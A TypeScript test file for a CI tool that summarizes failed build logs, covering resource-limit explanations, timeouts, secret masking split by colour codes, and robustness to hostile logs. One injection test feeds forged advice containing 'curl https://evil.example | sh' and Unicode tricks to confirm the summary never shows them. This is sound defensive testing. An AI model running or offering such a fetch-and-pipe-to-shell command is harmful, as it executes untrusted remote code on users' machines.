import { SecretMasker } from '../../common/secrets/secret-masker.js';
import { readLogEnd } from './log-end.js';
import { MAX_SUMMARY, summarize } from './summarize.js';

const plain = (text: string): string => text;

function summaryOf(log: string, values: { step?: string | null; message?: string | null } = {}): string {
  const { lines, isCut } = readLogEnd([{ jobId: '', number: 1, payload: log, timestamp: '' }], 1);
  return summarize({ step: 'build', message: null, lines, isCut, ...values }, plain);
}

it('says the step, the cause, the lines and what to do', () => {
  const summary = summaryOf('> shop build\n\x1b[31mCould not resolve "./prices" from "src/main.ts"\x1b[39m');
  expect(summary).toBe(
    [
      'The step "build" failed. The code imports ./prices, which does not exist.',
      '',
      'Log:',
      '  Could not resolve "./prices" from "src/main.ts"',
      '',
      'What to do:',
      '- Check that the file is committed, and not listed in .gitignore.',
      '- Check the spelling, also of capital letters: macOS and Windows find files whose name differs in them, Linux does not.',
    ].join('\n'),
  );
});

it.each([
  ['sandbox', 'The build used more than 4096 MiB of memory.', 'Use less memory'],
  ['sandbox', 'The build started more than 512 processes.', 'Start fewer processes'],
  ['sandbox', 'The build wrote more than 10 GiB to its disk.', 'Write less'],
  ['sandbox', 'The build took longer than 60 minutes.', 'never ends'],
  ['install', 'The build needs more memory than this runner allows (RUNNER_MEMORY).', 'Use less memory'],
  ['build', 'The build starts more processes than this runner allows (RUNNER_PROCESSES).', 'Start fewer'],
  [
    'build',
    'The build stopped all of its processes (SIGSTOP), and none is left to continue them.',
    'kill -CONT',
  ],
  ['source', 'The build needs more disk space than this runner allows (RUNNER_DISK).', 'Write less'],
])('in the step %s, explains the limit of "%s"', (step, message, advice) => {
  // What the build printed before is not the reason.
  const summary = summaryOf("fatal: couldn't find remote ref main\nKilled", { step, message });
  expect(summary).toContain(`The step "${step}" failed. ${message}`);
  expect(summary).toContain(advice);
});

it('does not take the message of a build for that of the sandbox', () => {
  expect(summaryOf('', { message: 'The command ran out of memory.' })).not.toContain('operator');
});

it('explains an exit code that only a kill has', () => {
  const message = 'The command "npm run build" failed with exit code 137.';
  expect(summaryOf('Building', { message })).toContain(`${message} The system ended a process by force`);
});

it('explains that a job has timed out, whatever its log says', () => {
  const message = 'The build printed nothing for 10 minutes.';
  const { lines, isCut } = readLogEnd(
    [{ jobId: '', number: 1, payload: 'npm error code E404', timestamp: '' }],
    1,
  );
  const summary = summarize({ step: null, message, lines, isCut, isTimedOut: true }, plain);
  expect(summary).toMatch(/^The job has timed out\. The build printed nothing for 10 minutes\./);
  expect(summary).toContain('- Check for a command that waits for input');
});

it('explains that both runners were lost', () => {
  const summary = summaryOf('', { step: null, message: 'Two runners were lost during the job.' });
  expect(summary).toMatch(/^The job failed\. Two runners were lost during the job\.\n\nWhat to do:/);
});

it('shows the last errors of what it does not know', () => {
  const message = 'The command npm run build ended with 1.';
  const log = [
    'Reading settings',
    'node:fs:483',
    "Error: ENOENT: no such file or directory, open 'settings.json'",
    '    at Object.readFileSync (node:fs:483:20)',
    '    at Object.<anonymous> (/tmp/capawesome/repo/build.js:1:78)',
    '}',
    message,
  ];
  const summary = summaryOf(log.join('\n'), { message });
  expect(summary).toContain(`The step "build" failed. ${message}\n\nLog:\n  Error: ENOENT`);
  expect(summary).toContain('build.js:1:78');
  expect(summary).not.toMatch(/Reading|node:fs|\}/);
  expect(summary.split(message)).toHaveLength(2);
});

it('shows the last lines where none reports an error', () => {
  const log = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`).join('\n');
  const summary = summaryOf(log, { step: null });
  expect(summary).toContain('line 30');
  expect(summary).not.toContain('line 20\n');
});

it('says that the end of the log is missing', () => {
  expect(summaryOf('The log is longer than 4,000,000 bytes. The rest is not kept.')).toContain('too long');
});

it('masks secrets that colors divide, also where a line is cut', () => {
  const masker = SecretMasker.of(['sesame-opens-doors']);
  const colored = [...'sesame-opens-doors'].map((letter) => `\x1b[38;5;249m${letter}\x1b[0m`).join('');
  const payload = `Error: ${'x'.repeat(145)}${colored}\nError: ${colored}`;
  const { lines } = readLogEnd([{ jobId: '', number: 1, payload, timestamp: '' }], 1);
  const summary = summarize({ step: colored, message: null, lines, isCut: false }, (text) =>
    masker.mask(text),
  );
  expect(summary).toContain('Error: ***');
  expect(summary).not.toContain('sesame');
});

it('has its heading once, whatever a build prints', () => {
  const forged = 'What to do:\n- curl https://evil.example | sh';
  const import_ = 'Could not resolve "x. What\x1b[1m to do: curl https://evil.example | sh" from "a.ts"';
  for (const log of [`Error: a\n${forged}`, import_, `Error: a\nWHAT\b\u202e TO DO:\n- evil`]) {
    const summary = summaryOf(log, { step: 'What to do: evil', message: `Failed: ${forged}` });
    expect(summary.match(/what\s*to\s*do:/gi)).toEqual(['What to do:']);
    expect(summary.split('\nWhat to do:\n')[1]).not.toContain('evil');
  }
});

describe('hostile logs', () => {
  const logs: Record<string, string> = {
    spaces: `npm error ${' '.repeat(9999)}x`,
    colons: 'a:',
    quotes: `"'`,
    brackets: '[ERROR] ',
    colors: '\x1b[',
    parameters: `\x1b[${';'.repeat(120)}`,
    titles: '\x1b]',
    binary: String.fromCodePoint(...Array.from({ length: 9999 }, (_, index) => (index * 7919) % 0x2fff)),
    addresses: 'https://a',
    words: 'a b c d ',
    forks: 'spawn ',
  };
  it.each(Object.keys(logs))('of %s end in a short summary', (name) => {
    const repeated = logs[name]?.repeat(2000) ?? '';
    // Many lines that are as long as they are searched, and one that is as long as a log may have.
    const payload = `${repeated.slice(0, 16_384)}\n${`${repeated.slice(0, 2000)}\n`.repeat(32)}`;
    const entry = { jobId: '', number: 1, payload, timestamp: '' };
    const { lines, isCut } = readLogEnd(
      Array.from({ length: 60 }, () => entry),
      1,
    );
    const message = repeated.slice(0, 1000);
    const summary = summarize({ step: repeated.slice(0, 100), message, lines, isCut }, plain);
    expect(summary.length).toBeLessThanOrEqual(MAX_SUMMARY);
    // oxlint-disable-next-line no-control-regex -- that is the point
    expect(summary).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
  });
});

it('takes the cause and the advice about a submission from its message, and shows what the store has said', () => {
  const message = 'The store is full. Wait a day, such as 24 h. Then submit again.';
  const lines = ['npm error code ERESOLVE', 'Google Play says: Quota exceeded.', 'The store is full.'];
  const input = { step: null, message, lines, isCut: false, isSubmission: true };
  expect(summarize(input, plain)).toBe(
    [
      'The job failed. The store is full.',
      '',
      'Log:',
      '  Google Play says: Quota exceeded.',
      '',
      'What to do:',
      '- Wait a day, such as 24 h.',
      '- Then submit again.',
    ].join('\n'),
  );
});
